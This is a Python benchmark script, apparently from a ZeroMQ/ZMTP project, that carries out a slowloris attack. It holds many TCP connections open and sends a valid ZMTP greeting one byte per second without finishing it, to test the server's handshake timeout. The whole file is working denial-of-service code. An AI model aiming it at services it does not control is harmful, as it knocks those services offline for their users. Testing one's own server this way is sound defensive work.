#!/usr/bin/env python3
"""Slowloris from a process of its own (issue 13): N raw TCP connections to a ZMTP endpoint, each
sending the next byte of a valid ZMTP 3.1 NULL greeting once a second and never completing it; a
connection the server closes (HANDSHAKE_IVL) is opened again. Prints, once a second, how many are
open and how many were closed and reopened so far, and at the end a summary line.

usage: bench/slowloris.py HOST PORT CONNECTIONS SECONDS
Standard library only. Needs `ulimit -n` above CONNECTIONS.
"""
import errno
import select
import socket
import sys
import time

GREETING = (b'\xff' + b'\x00' * 8 + b'\x7f' + bytes([3, 1]) + b'NULL' + b'\x00' * 16
            + b'\x00' + b'\x00' * 31)
assert len(GREETING) == 64


def open_one(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    except OSError as e:
        if e.errno not in (errno.EINPROGRESS, errno.EAGAIN):
            s.close()
            raise
    return s


def main():
    host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    t0 = time.monotonic()
    conns = {}
    poller = select.poll()
    failed_opens = 0
    for _ in range(n):
        try:
            s = open_one(host, port)
        except OSError:
            failed_opens += 1
            continue
        conns[s.fileno()] = [s, 0]
        poller.register(s.fileno(), select.POLLIN)
    opened_in = time.monotonic() - t0
    print(f'opened {len(conns)} connections in {opened_in:.1f} s ({failed_opens} failed)', flush=True)
    reopened = 0
    sent = 0
    start = time.monotonic()
    next_tick = start
    while time.monotonic() - start < seconds:
        # Closed by the server (read returns EOF or an error): open a new one in its place.
        for fd, ev in poller.poll(0):
            s, _ = conns[fd]
            try:
                data = s.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b''
            if data:
                continue  # the server's greeting: read and ignored
            poller.unregister(fd)
            del conns[fd]
            s.close()
            try:
                s2 = open_one(host, port)
                conns[s2.fileno()] = [s2, 0]
                poller.register(s2.fileno(), select.POLLIN)
                reopened += 1
            except OSError:
                failed_opens += 1
        now = time.monotonic()
        if now >= next_tick:
            for fd, c in list(conns.items()):
                s, i = c
                if i < len(GREETING) - 1:  # never the last byte
                    try:
                        s.send(GREETING[i:i + 1])
                        c[1] = i + 1
                        sent += 1
                    except (BlockingIOError, OSError):
                        pass
            print(f'{now - start:5.0f} s: open {len(conns)}, reopened {reopened}, bytes sent {sent}', flush=True)
            next_tick += 1.0
        time.sleep(0.05)
    print(f'summary: connections {n}, opened in {opened_in:.1f} s, still open {len(conns)}, '
          f'closed by the server and reopened {reopened}, failed opens {failed_opens}, bytes sent {sent}', flush=True)


if __name__ == '__main__':
    main()
